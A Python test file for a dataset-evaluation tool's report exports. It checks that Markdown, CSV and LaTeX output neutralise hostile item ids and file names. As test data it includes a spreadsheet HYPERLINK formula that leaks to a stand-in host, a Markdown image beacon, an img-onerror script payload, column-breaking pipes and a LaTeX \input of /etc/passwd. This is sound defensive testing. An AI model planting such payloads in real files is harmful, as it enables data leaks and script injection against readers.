"""Data written into files other programs read (spreadsheets, Markdown viewers, LaTeX) is read there as text.

An adversary writes the dataset: an item id `=HYPERLINK(...)` must not become a formula in the spreadsheet a
reviewer opens, an id `![x](https://...)` must not become an image a Markdown viewer fetches (a beacon that says
who read the report), and an id holding `|` must not shift the figures of a Markdown table into another column.
The Markdown is read back by a real CommonMark parser (markdown-it-py, with GitHub's tables), the CSV by the
csv module, and the label files by `qatui labels import` itself.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings, strategies as st
from markdown_it import MarkdownIt

from qatui.cli import main
from qatui.config import Config
from qatui.data.loaders import load_dataset
from qatui.engine.jobs import start_run
from qatui.report.cells import SHEET_FORMULA_START, latex_comment, markdown_cell, sheet_cell, sheet_value
from qatui.store.labels import LabelStore
from qatui.store.session import SessionStore
from qatui.text import plain
from tui_support import run_headless

MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
"""CommonMark with GitHub's tables and strikethrough, as GitHub and most viewers read a report."""

BEACON = "![seen](http://127.0.0.1:9/beacon.png)"
HOSTILE_IDS = [f"{BEACON} q1", "<img src=x onerror=alert(1)> q2", "a | 0.99 | b q3", "@octocat **bold** q4",
               '=HYPERLINK("http://127.0.0.1:9/?leak","open") q5', "'quoted q6", "+1 q7", "-2 q8", "[link](x) q9"]


def _cells(rendered: str) -> list[list[str]]:
    """The text of each body row's cells of the rendered tables."""
    rows = re.findall(r"<tr>(.*?)</tr>", rendered, re.DOTALL)
    return [[html.unescape(re.sub(r"<[^>]+>", "", cell)) for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.DOTALL)]
            for row in rows if "<td" in row]


def _shown(text: str) -> str:
    """What a reader should see of `text` in one table cell: its characters as `plain` shows them, on one line."""
    return re.sub(r"[\n\t\u2028\u2029]+", " ", plain(text)).strip(" ")


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=60))
def test_any_text_in_a_markdown_table_cell_renders_as_itself_in_that_one_cell(text) -> None:
    rendered = MARKDOWN.render(f"| a | b |\n|---|---|\n| {markdown_cell(text)} | end |\n")
    (row,) = _cells(rendered)
    assert row[1] == "end"  # no cell added, none taken away
    assert " ".join(row[0].split()) == " ".join(_shown(text).split())
    assert "<img" not in rendered and "<a " not in rendered and "<script" not in rendered


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_a_markdown_line_holding_any_text_stays_one_plain_list_item(text) -> None:
    rendered = MARKDOWN.render(f"- name: {markdown_cell(text)}\n- next\n")
    assert rendered.count("<li>") == 2
    inner = re.sub(r"<[^>]+>", "", re.findall(r"<li>(.*?)</li>", rendered, re.DOTALL)[0])
    assert " ".join(html.unescape(inner).split()) == " ".join(("name: " + _shown(text)).split())
    for tag in ("<em>", "<strong>", "<code>", "<del>", "<a ", "<img", "<h", "<blockquote"):
        assert tag not in rendered.split("<li>", 1)[1].split("</li>", 1)[0]


@given(st.text(max_size=30))
def test_a_sheet_cell_never_starts_a_formula_and_reads_back_as_it_was(text) -> None:
    cell = sheet_cell(text)
    assert not cell.startswith(SHEET_FORMULA_START)
    assert sheet_value(cell) == text


def test_a_latex_comment_is_one_line_whatever_it_holds() -> None:
    assert "\n" not in latex_comment("set\n\\end{tabular}\\input{/etc/passwd}\r\nmore")


@pytest.fixture
def hostile(tmp_path):
    """A two-response pairwise dataset whose item ids and candidate names are each a different attack, its store,
    and a finished rouge-l session of it."""
    path = tmp_path / "hostile.jsonl"
    rows = [{"id": item_id, "question": "Which answer is right?", "references": ["the cat sat on the mat"],
             "candidates": {"=SUM(1,1)": "the cat sat on the mat", "<b>two</b> | x": "dogs bark"},
             "gold": {"kind": "pairwise", "a": "=SUM(1,1)", "b": "<b>two</b> | x", "labels": ["A"]}}
            for item_id in HOSTILE_IDS]
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    dataset = load_dataset(str(path))
    store = SessionStore(tmp_path / "sessions")
    job = start_run(store, dataset, ["rouge-l"], Config())
    run_headless(job)
    return dataset, store, job.session


def _qatui(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "qatui", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=300, check=False)


def test_the_markdown_export_shows_every_id_as_written_in_its_own_cell(hostile, tmp_path) -> None:
    _, store, session = hostile
    run = _qatui("sessions", "export", session.id, "--format", "md", "--sessions-dir", str(store.root), cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    rendered = MARKDOWN.render(run.stdout)
    assert "<img" not in rendered and "<a " not in rendered and "<b>" not in rendered, rendered
    rows = [row for row in _cells(rendered) if len(row) != 3]  # the metrics tables have three columns
    assert sorted(row[0] for row in rows) == sorted(HOSTILE_IDS)
    for row in rows:
        assert len(row) == 4 and row[1] == "rouge-l", row
        assert row[2] in ("=SUM(1,1) > <b>two</b> | x", "<b>two</b> | x > =SUM(1,1)"), row


def test_the_csv_export_and_a_label_file_run_no_formula_and_labels_come_back_as_given(hostile, tmp_path) -> None:
    dataset, store, session = hostile
    run = _qatui("sessions", "export", session.id, "--format", "csv", "--sessions-dir", str(store.root), cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    rows = list(csv.DictReader(io.StringIO(run.stdout)))
    assert len(rows) == 2 * len(HOSTILE_IDS)
    for row in rows:
        for column in ("item_id", "candidate", "question", "response"):
            assert not row[column].startswith(SHEET_FORMULA_START), (column, row[column])
    assert sorted({sheet_value(row["item_id"]) for row in rows}) == sorted(HOSTILE_IDS)

    meta = {"name": dataset.name, "path": dataset.path, "format": dataset.format, "content_hash": dataset.content_hash}
    from qatui.data.labels import Label

    labels = [Label(item_id=item_id, kind="pairwise", a="=SUM(1,1)", b="<b>two</b> | x", preference=pick)
              for item_id, pick in zip(HOSTILE_IDS, "AB" * len(HOSTILE_IDS))]
    with LabelStore(store.root).open_pass("ana", meta) as labelled:
        labelled.put_many(labels)
    out = tmp_path / "ana.csv"
    assert main(["--sessions-dir", str(store.root), "labels", "export", "--annotator", "ana", "-o", str(out)]) == 0
    for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))):
        for cell in row:
            assert not cell.startswith(SHEET_FORMULA_START), cell
    other = SessionStore(tmp_path / "other")
    assert main(["--sessions-dir", str(other.root), "labels", "import", str(out)]) == 0
    assert (LabelStore(other.root).labels_of(dataset.content_hash)["ana"]
            == LabelStore(store.root).labels_of(dataset.content_hash)["ana"])


def test_a_table_in_markdown_shows_a_dataset_named_as_an_image_as_its_name(hostile, tmp_path) -> None:
    dataset, store, _ = hostile
    named = tmp_path / "<img src=x onerror=alert(1)> ![t](x.png) | 1.0.jsonl"
    named.write_bytes(Path(dataset.path).read_bytes())
    run = _qatui("table", str(named), "--judge", "length", "--to", "md", "--sessions-dir", str(store.root), cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    rendered = MARKDOWN.render(run.stdout)
    assert "<img" not in rendered and "<a " not in rendered, rendered
    assert "<img src=x onerror=alert(1)> ![t](x.png) | 1.0" in html.unescape(re.sub(r"<[^>]+>", "", rendered))
    header = re.findall(r"<th(?: [^>]*)?>", rendered)
    assert all(len(row) == len(header) for row in _cells(rendered)), (header, _cells(rendered))


def test_latex_writes_every_command_character_and_greek_column_letter_as_its_command() -> None:
    from qatui.report.cells import LATEX_ESCAPES, latex_cell

    text = "".join(LATEX_ESCAPES) + " plain"
    written = latex_cell(text)
    for char in LATEX_ESCAPES:  # each one only inside the command that writes it
        rest = written
        for command in sorted(set(LATEX_ESCAPES.values()), key=len, reverse=True):
            rest = rest.replace(command, "")
        assert char not in rest, (char, written)
    assert written.endswith(" plain")
